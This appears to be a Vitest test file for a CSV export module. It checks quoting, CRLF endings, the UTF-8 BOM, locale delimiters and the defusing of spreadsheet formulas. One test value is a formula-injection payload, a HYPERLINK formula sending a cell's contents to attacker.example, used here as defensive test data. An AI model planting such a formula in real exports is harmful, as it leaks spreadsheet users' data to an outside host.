import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { csvBlob, csvText, defaultDelimiter } from './write'

const fixture = (name: string) => readFileSync(`${import.meta.dirname}/fixtures/${name}`)

describe('CSV writing', () => {
  it('quotes only where needed, ends lines with CRLF, and neutralises formulas', () => {
    expect(
      csvText(
        [
          ['id', 'title', 'note'],
          ['1', 'Budget; "primitif"', 'Ligne 1\nligne 2'],
          ['2', '=1+1', ' espace '],
        ],
        ';',
      ),
    ).toBe(
      'id;title;note\r\n1;"Budget; ""primitif""";"Ligne 1\nligne 2"\r\n2;\'=1+1;" espace "\r\n',
    )
  })

  it('writes the formulas fixture byte for byte from the values it holds', () => {
    const values = [
      ['id', 'title', 'tags'],
      [
        '5f0c1d2e3a4b5c6d7e8f9a01',
        '=HYPERLINK("https://attacker.example/?"&A1,"Cliquez")',
        '-brouillon,budget',
      ],
      ['5f0c1d2e3a4b5c6d7e8f9a02', '+33 1 23 45 67 89', '@admin'],
      ['5f0c1d2e3a4b5c6d7e8f9a03', "'=1+1 (with its quote)", "'hello"],
      ['5f0c1d2e3a4b5c6d7e8f9a04', '\t=1+1', '\r=2+2'],
      ['5f0c1d2e3a4b5c6d7e8f9a05', '- Budget annexe', ''],
    ]
    expect(csvText(values, ',')).toBe(fixture('formulas.csv').toString('utf8'))
  })

  it('makes a UTF-8 file with a BOM', async () => {
    const blob = csvBlob([['titre'], ['Qualité de l’air']], '\t')
    expect(blob.type).toBe('text/csv;charset=utf-8')
    const bytes = new Uint8Array(await blob.arrayBuffer())
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(new TextDecoder().decode(bytes.subarray(3))).toBe('titre\r\nQualité de l’air\r\n')
  })

  it('picks `;` for French and `,` for English', () => {
    expect(defaultDelimiter('fr')).toBe(';')
    expect(defaultDelimiter('en')).toBe(',')
  })
})
